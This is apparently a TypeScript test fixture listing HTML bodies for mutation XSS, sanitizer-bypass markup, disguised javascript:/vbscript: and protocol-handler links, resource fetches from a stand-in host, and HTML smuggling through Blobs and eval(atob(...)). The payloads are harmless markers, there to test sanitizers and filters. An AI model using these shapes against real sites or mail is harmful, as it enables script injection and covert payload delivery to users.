@@ -1,0 +1,108 @@
+/**
+ * Pages that change their meaning between two parsers, or carry a file past a filter: the known shapes of mutation XSS, of HTML smuggling and
+ * of addresses in disguise, as bodies. Each would run, fetch or open something in a browser or an old mail program.
+ */
+export const MARKER = 'evil-marker-51c2'
+
+const run = `onerror=window.ran=1`
+const image = `<img src=x ${run}>`
+const far = `//${MARKER}.example/x`
+const js = `javascript:window.ran='${MARKER}'`
+
+export const mutations: Readonly<Record<string, string>> = {
+  // elements whose text one parser reads as markup
+  'noscript in an attribute': `<noscript><p title="</noscript>${image}">`,
+  noembed: `<noembed><p title="</noembed>${image}">`,
+  noframes: `<noframes><p title="</noframes>${image}">`,
+  xmp: `<xmp><p title="</xmp>${image}">`,
+  plaintext: `<div><plaintext></div>${image}`,
+  listing: `<listing>&lt;${image.slice(1)}</listing>`,
+  'iframe as text': `<iframe><p title="</iframe>${image}"></iframe>`,
+  'title in SVG': `<svg><title><p title="</title>${image}">`,
+  'style in SVG': `<svg><style><p title="</style>${image}">`,
+  'style in MathML': `<math><style><p title="</style>${image}">`,
+  'textarea in SVG': `<svg><textarea><p title="</textarea>${image}">`,
+  'select eats tags': `<select><p><style><!--</style></select>${image}-->`,
+  option: `<select><option><svg><style></option></select>${image}`,
+  'template in a template': `<template><template>${image}</template></template>`,
+  'declarative shadow root': `<div><template shadowrootmode=open>${image}</template></div>`,
+  // namespaces that change on the second reading
+  'mglyph and style': `<math><mtext><table><mglyph><style><math><img src ${run}>`,
+  malignmark: `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;${image.replaceAll('<', '&lt;')}">`,
+  'annotation-xml': `<math><annotation-xml encoding="text/html"><style><img src ${run}></style></annotation-xml></math>`,
+  foreignObject: `<svg><foreignObject><math><mi><style>${image}</style></mi></math></foreignObject></svg>`,
+  desc: `<svg><desc><svg><style><a title="</style>${image}">`,
+  'p closes SVG': `<svg><p><style><!--</style>${image}--></p></svg>`,
+  'br closes MathML': `<math></br><style><!--</style>${image}-->`,
+  'nested forms': `<form><math><mtext></form><form><mglyph><style></math>${image}</style>`,
+  'table and MathML': `<table><math><select><mglyph><style>${image}</style>`,
+  'font leaves SVG': `<svg><font color><style>${image}</style></font></svg>`,
+  'CDATA in HTML': `<![CDATA[><!--]]>${image}-->`,
+  'CDATA in MathML': `<math><![CDATA[<p>]]></math><p title="]]>${image}">`,
+  // comments and declarations
+  'comment of a dash': `<!-->${image}-->`,
+  'comment of two dashes': `<!--->${image}-->`,
+  'comment that ends with a bang': `<!-- --!>${image}`,
+  'comment in a comment': `<!-- <!-- -->${image} -->`,
+  'bogus comment': `<!x ">${image}">`,
+  'question mark': `<?x ">${image}">`,
+  slash: `</ ">${image}">`,
+  'downlevel revealed': `<![if true]>${image}<![endif]>`,
+  conditional: `<!--[if true]>${image}<![endif]-->`,
+  'entity of a doctype': `<!DOCTYPE x [<!ENTITY y "${image.replaceAll('"', '')}">]>&y;`,
+  // attributes
+  'slashes between': `<img/src/=/x/${run}/>`,
+  'new lines between': `<img\nsrc\n=\nx\n${run}\n>`,
+  'form feed between': `<img\fsrc=x\f${run}>`,
+  'no blank behind a quote': `<img src="x"${run}>`,
+  'name with a quote': `<img "x"=" src=x ${run}>`,
+  'name that is a sign': `<img =${run} src=x ${run}>`,
+  'a tag in a tag': `<p <img src=x ${run}>`,
+  'two of one name': `<a href="https://ok.example/" href="${js}">x</a><a href="${js}" href="https://ok.example/">y</a>`,
+  'grave accents of Internet Explorer': `<p title="\`\`${run}">x</p>`,
+  'value without an end': `<p title="x${image}`,
+  'NUL in a name': `<scr\0ipt>window.ran='${MARKER}'</scr\0ipt><img src=x on\0error=window.ran=1>`,
+  'upper case of another script': `<ſcript>window.ran='${MARKER}'</ſcript>${image}`,
+  'many levels': `${'<div>'.repeat(200)}${image}${'</div>'.repeat(200)}`,
+  // addresses
+  'tabs in a scheme': `<a href="java\tscript:window.ran='${MARKER}'">x</a>`,
+  'references in a scheme': `<a href="&#x6A&#x61&#x76&#x61script&colon;${MARKER}">x</a>`,
+  'references without an end': `<a href="&#0000106&#0000097vascript:${MARKER}">x</a>`,
+  'zero in a scheme': `<a href="java\0script:${MARKER}">x</a>`,
+  vbscript: `<a href="vbscript:msgbox('${MARKER}')">x</a>`,
+  'view-source': `<a href="view-source:${js}">x</a>`,
+  'intent of a telephone': `<a href="intent://${MARKER}#Intent;scheme=http;end">x</a>`,
+  'program by a protocol': `<a href="ms-officecmd:${MARKER}">x</a><a href="ms-word:ofe|u|http:${far}">y</a><a href="search-ms:query=${MARKER}">z</a>`,
+  mhtml: `<a href="mhtml:http:${far}!x">x</a>`,
+  backslashes: `<a href="\\\\${MARKER}\\x">x</a><a href="/\\${MARKER}/x">y</a><a href="https:\\\\${MARKER}/x">z</a>`,
+  'address of SVG': `<svg><a xlink:href="${js}"><text>x</text></a></svg>`,
+  'address of MathML': `<math href="${js}"><mi>x</mi></math>`,
+  area: `<map name=m><area href="${js}" shape=default></map><img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
+  'form target': `<form action="${js}"><button>x</button></form><button formaction="${js}">y</button><isindex action="${js}">`,
+  'download of a file in the page': `<a download="x.exe" href="data:application/octet-stream;base64,${Buffer.from(MARKER).toString('base64')}">x</a>`,
+  // what fetches
+  'picture set': `<picture><source srcset="${far}"><img src="${far}" srcset="${far} 2x"></picture>`,
+  'link of every kind': `<link rel=preload href="${far}"><link rel=stylesheet href="${far}"><link rel=dns-prefetch href="${far}"><link rel=import href="${far}">`,
+  'style that fetches in every way': `<style>@import url(${far});@font-face{font-family:x;src:url(${far})}</style><p style="background:url(${far});list-style:url('${far}');cursor:image-set('${far}' 1x);border-image:url(${far})">x</p>`,
+  'style in escapes': `<p style="background:\\75\\72\\6c(${far})">x</p>`,
+  'style with a comment in a word': `<p style="background:u/**/rl(${far});width:exp/**/ression(window.ran=1)">x</p>`,
+  'use of SVG': `<svg><use href="${far}#x"/><image href="${far}"/><feImage href="${far}"/></svg>`,
+  frames: `<iframe src="${far}"></iframe><frame src="${far}"><object data="${far}"></object><embed src="${far}"><portal src="${far}"></portal><fencedframe></fencedframe>`,
+  'body background': `<body background="${far}"><table background="${far}"><td background="${far}">x`,
+  'old sounds': `<bgsound src="${far}"><audio src="${far}"></audio><video poster="${far}"></video>`,
+  'layer and ilayer': `<layer src="${far}"></layer><ilayer src="${far}"></ilayer><xml src="${far}"></xml>`,
+  'refresh inside the body': `<meta http-equiv=refresh content="0;url=${js}"><meta http-equiv="Set-Cookie" content="x">`,
+  base: `<base href="${far}"><base target=_top>`,
+  'import map and module': `<script type=importmap>{"imports":{"x":"${far}"}}</script><script type=module src="${far}"></script><script type=speculationrules>{"prefetch":[{"urls":["${far}"]}]}</script>`,
+  // smuggling
+  'blob made by a script': `<script>var b=new Blob([atob("${Buffer.from(MARKER).toString('base64')}")]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>`,
+  'file in an attribute': `<div id=payload data-payload="${Buffer.from(MARKER).toString('base64')}"></div><script>eval(atob(payload.dataset.payload))</script>`,
+  'file in a text that is not shown': `<div style="display:none" hidden>${Buffer.from(`${MARKER} MZ`).toString('base64')}</div>${image}`,
+  'file in a comment': `<!-- ${Buffer.from(MARKER).toString('base64')} -->${image}`,
+  'file in SVG': `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${MARKER}</script></svg>`).toString('base64')}">`,
+  'web assembly': `<script>WebAssembly.instantiateStreaming(fetch("data:application/wasm;base64,AGFzbQEAAAA="))</script>`,
+  'popover and focus': `<button popovertarget=x>o</button><div popover id=x onbeforetoggle=window.ran=1>y</div><input autofocus onfocus=window.ran=1>`,
+  'handlers of details, marquee, animation': `<details open ontoggle=window.ran=1><summary>x</summary></details><marquee onstart=window.ran=1>x</marquee><p style="animation:x" onanimationstart=window.ran=1>x</p>`,
+  clobbering: `<form id=x><input name=attributes><input name=parentNode></form><img name=body><a id=defaultView href="${js}">x</a>`,
+  'custom element': `<x-evil onclick=window.ran=1 is=y>x</x-evil>${image}`,
+}
